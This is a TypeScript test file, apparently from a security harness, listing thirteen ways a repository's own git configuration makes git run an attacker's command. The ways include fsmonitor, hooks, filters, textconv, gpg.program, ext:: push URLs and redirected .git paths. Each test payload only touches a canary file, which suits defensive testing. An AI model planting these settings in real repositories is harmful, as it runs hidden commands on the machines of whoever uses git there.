/**
 * Attacks by the working copy's own git configuration, which every git that runs on the result obeys.
 * Rule: each uses one way only, and works on a plain checkout whose user runs status, diff, add, commit and push.
 */
import type { Attack, Host } from '../attack.ts';
import { appeared } from '../evidence.ts';

/** Makes a repository in a working copy that has none. */
const START = 'git rev-parse --git-dir >/dev/null 2>&1 || git init --quiet .\n';

/** An attack whose only effect is that the host runs a command of the attacker. */
function execution(name: string, tries: string, script: (touch: string) => string): Attack {
  const touch = (host: Host): string => `touch '${host.canary(name)}'`;
  return {
    name,
    area: 'git configuration',
    tries,
    repository: { 'README.md': 'A repository.\n', 'notes.txt': 'one\n' },
    command: (host) => `${START}${script(touch(host))}\necho two >> notes.txt\necho new > new.txt`,
    succeeded: async (host) => await appeared(host, name),
  };
}

/** A script in the working copy that does what the attacker wants and then what git expects. */
function program(touch: string, rest = 'cat'): string {
  return `printf '#!/bin/sh\\n%s\\n%s\\n' "${touch}" '${rest}' > evil.sh; chmod +x evil.sh; evil="$PWD/evil.sh"`;
}

/** One attack for each setting with which git runs programs during the host's usual work. */
export const gitConfigurationAttacks: Attack[] = [
  execution(
    'git-config-fsmonitor',
    'core.fsmonitor runs a command at the next status',
    (touch) => `git config core.fsmonitor "${touch}; false"`,
  ),
  execution(
    'git-hook-commit',
    'hooks in .git/hooks run at the next add, status or commit',
    (touch) =>
      `mkdir -p .git/hooks
       for hook in pre-commit post-index-change prepare-commit-msg post-commit pre-push; do
         printf '#!/bin/sh\\n%s\\n' "${touch}" > .git/hooks/$hook; chmod +x .git/hooks/$hook
       done`,
  ),
  execution(
    'git-config-hooks-path',
    'core.hooksPath points at a tracked folder of hooks',
    (touch) =>
      `mkdir hooks; printf '#!/bin/sh\\n%s\\n' "${touch}" > hooks/pre-commit; chmod +x hooks/pre-commit
       git config core.hooksPath "$PWD/hooks"`,
  ),
  execution(
    'git-filter-clean',
    'a clean filter named by .gitattributes runs when files are added',
    (touch) => `git config filter.evil.clean "${touch}; cat"; echo '* filter=evil' > .gitattributes`,
  ),
  execution(
    'git-filter-process',
    'a long-running filter process named by .git/info/attributes is started',
    (touch) =>
      `git config filter.evil.process "${touch}; false"; git config filter.evil.required false
       mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes`,
  ),
  execution(
    'git-diff-textconv',
    'a textconv named by .gitattributes runs at the next diff or log --patch',
    (touch) =>
      `${program(touch, 'cat "$1"')}; git config diff.evil.textconv "$evil"; echo '*.txt diff=evil' > .gitattributes`,
  ),
  execution(
    'git-diff-external',
    'diff.external runs at the next diff',
    (touch) => `${program(touch, 'exit 0')}; git config diff.external "$evil"`,
  ),
  execution(
    'git-gpg-program',
    'commit.gpgSign with gpg.program runs at the next commit',
    (touch) => `${program(touch, 'exit 1')}; git config commit.gpgSign true; git config gpg.program "$evil"`,
  ),
  execution(
    'git-remote-receivepack',
    'remote.origin.receivepack runs at the next push',
    (touch) => `git config remote.origin.receivepack "${touch}; git-receive-pack"`,
  ),
  execution(
    'git-remote-ext',
    'a push address of the transport ext:: runs a command at the next push',
    (touch) =>
      `${program(touch, 'exit 1')}; git config protocol.ext.allow always; git config remote.origin.pushurl "ext::$evil"`,
  ),
  execution(
    'git-commondir',
    'a file .git/commondir makes git read its configuration from a folder of the attacker',
    (touch) =>
      `cp -r .git common 2>/dev/null || git init --quiet --bare common
       rm -f common/commondir; git config --file common/config core.fsmonitor "${touch}; false"
       git config --file common/config core.bare false
       echo "$PWD/common" > .git/commondir`,
  ),
  execution(
    'git-replaced-directory',
    'the whole .git is moved away and another one put in its place',
    (touch) =>
      `mv .git old || { cp -r .git old; rm -rf .git; }
       cp -r old .git 2>/dev/null; git config core.fsmonitor "${touch}; false"`,
  ),
  execution(
    'git-file-for-directory',
    'a file .git names a repository of the attacker inside the working copy',
    (touch) =>
      `cp -r .git inner; git config --file inner/config core.fsmonitor "${touch}; false"
       rm -rf .git; echo "gitdir: $PWD/inner" > .git`,
  ),
];
